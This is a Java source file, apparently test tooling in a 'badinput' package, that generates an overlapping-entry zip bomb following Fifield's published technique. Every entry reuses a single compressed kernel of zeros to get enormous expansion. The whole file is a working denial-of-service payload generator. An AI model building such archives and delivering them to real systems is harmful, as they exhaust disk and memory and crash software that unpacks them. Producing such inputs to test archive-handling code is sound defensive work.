package org.minqing.desk.badinput;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A bomb of one kernel and many entries: each entry quotes the header of the next in a stored block and runs on into it, so that
 * all of them unpack the same kernel and every header is true.
 *
 * @see <a href="https://www.usenix.org/conference/woot19/presentation/fifield">Fifield, A better zip bomb, WOOT 2019</a>
 */
final class Overlapping {

    private static final int MIB = 1 << 20;
    private static final int HEADER = 30;
    private static final int DIRECTORY_HEADER = 46;
    private static final int END = 22;
    private static final short DEFLATED = 8;

    /** An entry that begins at an offset from the end of the packed bytes. */
    private record Entry(byte[] name, int crc, int packed, long unpacked, int fromEnd) {}

    private Overlapping() {}

    /**
     * @param entries all of which unpack the kernel
     * @param mebibytes of zeros in the kernel
     */
    static void write(Path at, int entries, int mebibytes) throws IOException {
        var packed = kernel(mebibytes);
        long unpacked = (long) mebibytes * MIB;
        var quoted = new ByteArrayOutputStream();
        var made = new ArrayList<Entry>();
        for (int i = 0; i < entries; i++) {
            var name = (i + ".csv").getBytes(StandardCharsets.US_ASCII);
            var entry =
                    new Entry(name, crc(quoted.toByteArray(), mebibytes), packed.length, unpacked + quoted.size(), 0);
            var header = header(entry);
            packed = joined(header, packed);
            made.add(new Entry(name, entry.crc(), entry.packed(), entry.unpacked(), packed.length));
            if (i < entries - 1) {
                packed = joined(stored(header.length), packed);
                quoted = prefixed(header, quoted);
            }
        }
        Files.write(at, joined(packed, directory(made.reversed(), packed.length)));
    }

    private static byte[] kernel(int mebibytes) {
        var deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(new byte[mebibytes * MIB]);
        deflater.finish();
        var buffer = new byte[mebibytes * MIB / 500];
        int length = deflater.deflate(buffer);
        deflater.end();
        return Arrays.copyOf(buffer, length);
    }

    private static int crc(byte[] quoted, int mebibytes) {
        var crc = new CRC32();
        crc.update(quoted);
        var zeros = new byte[MIB];
        Collections.nCopies(mebibytes, zeros).forEach(crc::update);
        return (int) crc.getValue();
    }

    private static byte[] header(Entry entry) {
        return ByteBuffer.allocate(HEADER + entry.name().length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x04034B50)
                .putShort((short) 20)
                .putShort((short) 0)
                .putShort(DEFLATED)
                .putInt(0x00210000)
                .putInt(entry.crc())
                .putInt(entry.packed())
                .putInt((int) entry.unpacked())
                .putShort((short) entry.name().length)
                .putShort((short) 0)
                .put(entry.name())
                .array();
    }

    /** A deflate block, not the last, that says that so many bytes follow as they are. */
    private static byte[] stored(int length) {
        return ByteBuffer.allocate(5)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put((byte) 0)
                .putShort((short) length)
                .putShort((short) ~length)
                .array();
    }

    private static byte[] directory(List<Entry> entries, int packed) {
        int size = entries.stream()
                .mapToInt(entry -> DIRECTORY_HEADER + entry.name().length)
                .sum();
        var bytes = ByteBuffer.allocate(size + END).order(ByteOrder.LITTLE_ENDIAN);
        for (var entry : entries) {
            bytes.putInt(0x02014B50).putShort((short) 20).put(header(entry), 4, HEADER - 4);
            bytes.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0);
            bytes.putInt(packed - entry.fromEnd()).put(entry.name());
        }
        return bytes.putInt(0x06054B50)
                .putInt(0)
                .putShort((short) entries.size())
                .putShort((short) entries.size())
                .putInt(size)
                .putInt(packed)
                .putShort((short) 0)
                .array();
    }

    private static ByteArrayOutputStream prefixed(byte[] head, ByteArrayOutputStream tail) {
        var all = new ByteArrayOutputStream();
        all.writeBytes(head);
        all.writeBytes(tail.toByteArray());
        return all;
    }

    private static byte[] joined(byte[] left, byte[] right) {
        var both = Arrays.copyOf(left, left.length + right.length);
        System.arraycopy(right, 0, both, left.length, right.length);
        return both;
    }
}
